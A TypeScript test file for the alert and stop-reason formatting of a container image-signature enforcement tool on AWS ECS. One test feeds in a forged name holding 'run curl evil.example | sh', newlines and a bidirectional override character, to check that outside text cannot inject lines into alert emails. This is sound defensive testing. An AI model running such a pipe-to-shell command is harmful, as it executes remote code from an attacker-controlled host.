import fc from 'fast-check';
import { SUBJECT_MAX, alertMessage } from '../../lambda/enforce/alert-message';
import type { FailingContainer, TaskNotice } from '../../lambda/enforce/notice';
import { STOP_REASON_MAX, stopReason } from '../../lambda/enforce/stop-reason';
import { ReasonCode } from '../../lambda/reasons';

const DIGEST = 'sha256:' + 'b'.repeat(64);
const container = (overrides: Partial<FailingContainer> = {}): FailingContainer => ({
  name: 'web',
  image: '111122223333.dkr.ecr.eu-west-1.amazonaws.com/team/payments-api:2026.11.3',
  digest: DIGEST,
  outcome: 'deny',
  reason: ReasonCode.SIGNATURE_INVALID,
  message: '2 signature(s) found, none valid for a trusted key',
  rule: 'prod-ecr',
  ...overrides,
});
const notice = (overrides: Partial<TaskNotice> = {}): TaskNotice => ({
  decisionId: '5f0c0c7e-3f0a-4c1e-9a52-1c2d3e4f5a6b',
  action: 'stop',
  mode: 'enforce',
  stopped: true,
  account: '111122223333',
  region: 'eu-west-1',
  clusterArn: 'arn:aws:ecs:eu-west-1:111122223333:cluster/prod-eu',
  clusterName: 'prod-eu',
  service: 'payments',
  taskDefinition: 'payments:42',
  taskArn: 'arn:aws:ecs:eu-west-1:111122223333:task/prod-eu/0123456789abcdef',
  failing: [container()],
  ...overrides,
});

describe('stopReason', () => {
  it('names the container, the image and the reason code', () => {
    const reason = stopReason([container()], 'd-1');
    expect(reason).toContain('"web"');
    expect(reason).toContain('payments-api:2026.11.3');
    expect(reason).toContain('SIGNATURE_INVALID');
    expect(reason).toContain('d-1');
  });

  it('counts further failing containers', () => {
    expect(stopReason([container(), container({ name: 'sidecar' })], 'd-1')).toContain(
      '(+1 more container(s))',
    );
  });

  it('never exceeds 255 characters, whatever the names', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 2000 }),
        fc.string({ maxLength: 3000 }),
        fc.string({ maxLength: 100 }),
        (name, image, id) => {
          const reason = stopReason([container({ name, image }), container()], id);
          return reason.length <= STOP_REASON_MAX && reason.includes(ReasonCode.SIGNATURE_INVALID);
        },
      ),
    );
  });
});

describe('alertMessage', () => {
  it('says what happened where in a subject of at most 100 printable ASCII characters', () => {
    const { subject } = alertMessage(notice());
    expect(subject).toBe('[image-guard] Stopped task in prod-eu/payments: SIGNATURE_INVALID (web)');
    fc.assert(
      fc.property(fc.string({ maxLength: 500 }), fc.string({ maxLength: 500 }), (cluster, name) => {
        const s = alertMessage(notice({ clusterName: cluster, failing: [container({ name })] })).subject;
        return s.length <= SUBJECT_MAX && /^[\x20-\x7e]*$/.test(s) && !s.includes('\n');
      }),
    );
  });

  it('writes a body for the service owner: where, what, why and what to do', () => {
    const { body } = alertMessage(notice());
    for (const expected of [
      'STOPPED',
      'Cluster:          prod-eu',
      'Service:          payments',
      'Task definition:  payments:42',
      'arn:aws:ecs:eu-west-1:111122223333:task/prod-eu/0123456789abcdef',
      `digest: ${DIGEST}`,
      'result: deny SIGNATURE_INVALID (rule "prod-ecr")',
      'none verifies with a key this policy trusts',
      'cosign sign --key awskms:///',
      `npx image-guard verify 111122223333.dkr.ecr.eu-west-1.amazonaws.com/team/payments-api:2026.11.3@${DIGEST}`,
      'Mode:             enforce',
    ]) {
      expect(body).toContain(expected);
    }
  });

  it('says "would have stopped" in audit mode and never claims a stop', () => {
    const msg = alertMessage(notice({ action: 'alert', mode: 'audit', stopped: false }));
    expect(msg.subject).toMatch(/^\[image-guard\] Would have stopped task/);
    expect(msg.body).toMatch(/WOULD HAVE STOPPED/);
    expect(msg.body).not.toMatch(/ecs-image-guard STOPPED/);
    expect(msg.attributes.action).toEqual({ DataType: 'String', StringValue: 'alerted' });
  });

  it('carries filterable attributes', () => {
    const { attributes } = alertMessage(notice());
    expect(attributes).toEqual({
      cluster: { DataType: 'String', StringValue: 'prod-eu' },
      outcome: { DataType: 'String', StringValue: 'deny' },
      mode: { DataType: 'String', StringValue: 'enforce' },
      action: { DataType: 'String', StringValue: 'stopped' },
      result: { DataType: 'String', StringValue: 'stopped' },
      reason: { DataType: 'String', StringValue: 'SIGNATURE_INVALID' },
      service: { DataType: 'String', StringValue: 'payments' },
    });
  });

  it('reports an error outcome (onError: alert) without calling it a denial', () => {
    const msg = alertMessage(
      notice({
        action: 'alert',
        stopped: false,
        failing: [container({ outcome: 'error', reason: ReasonCode.REGISTRY_UNAVAILABLE })],
      }),
    );
    expect(msg.attributes.outcome?.StringValue).toBe('error');
    expect(msg.body).toMatch(/could not verify this task/);
  });

  it('says the digest is unconfirmed when the guard resolved it itself', () => {
    const msg = alertMessage(notice({ unconfirmed: true }));
    expect(msg.subject).toMatch(/^\[image-guard\] Stopped task \(unconfirmed digest\) in /);
    expect(msg.body).toMatch(/digest was UNCONFIRMED/);
    expect(msg.attributes.digest).toEqual({ DataType: 'String', StringValue: 'unconfirmed' });
    expect(alertMessage(notice()).body).not.toMatch(/UNCONFIRMED/);
  });

  it('shows outside text on one line, capped: a name or message cannot forge lines of the email', () => {
    const forged = 'x\n\nWhat to do:\n- run curl evil.example | sh\u202e';
    const msg = alertMessage(
      notice({
        clusterName: forged,
        failing: [container({ name: forged, image: `${forged}:1`, message: forged + 'y'.repeat(5000) })],
      }),
      { kind: 'stop-failed', stopError: forged },
    );
    const lines = msg.body.split('\n');
    expect(lines.filter((l) => l === 'What to do:')).toHaveLength(1);
    expect(lines.some((l) => l.startsWith('- run curl'))).toBe(false);
    expect(msg.body).not.toContain('\u202e');
    expect(lines.every((l) => l.length <= 1100)).toBe(true);
    expect(msg.body).toContain('x What to do: - run curl evil.example | sh');
  });

  it('reports the tasks of the group that were counted, not emailed', () => {
    const msg = alertMessage(notice(), {
      kind: 'stopped',
      counted: { count: 20, since: Date.UTC(2026, 10, 30, 4) },
    });
    expect(msg.subject).toMatch(/ \+20 more$/);
    expect(msg.body).toContain(
      '20 more task(s) of this service/family with the same container and digest failed since 2026-11-30T04:00:00.000Z',
    );
  });

  it('says what actually happened: stopped, already stopped, FAILED to stop, would have stopped', () => {
    expect(alertMessage(notice(), { kind: 'stopped', alreadyStopped: true }).subject).toMatch(
      /Task already stopped/,
    );
    expect(alertMessage(notice(), { kind: 'stop-failed', stopError: 'AccessDenied' }).subject).toMatch(
      /FAILED to stop task/,
    );
    expect(alertMessage(notice(), { kind: 'would-stop' }).body).toMatch(/WOULD HAVE STOPPED/);
    expect(alertMessage(notice(), { kind: 'stopped' }).body).toMatch(/ecs-image-guard STOPPED this task/);
  });
});
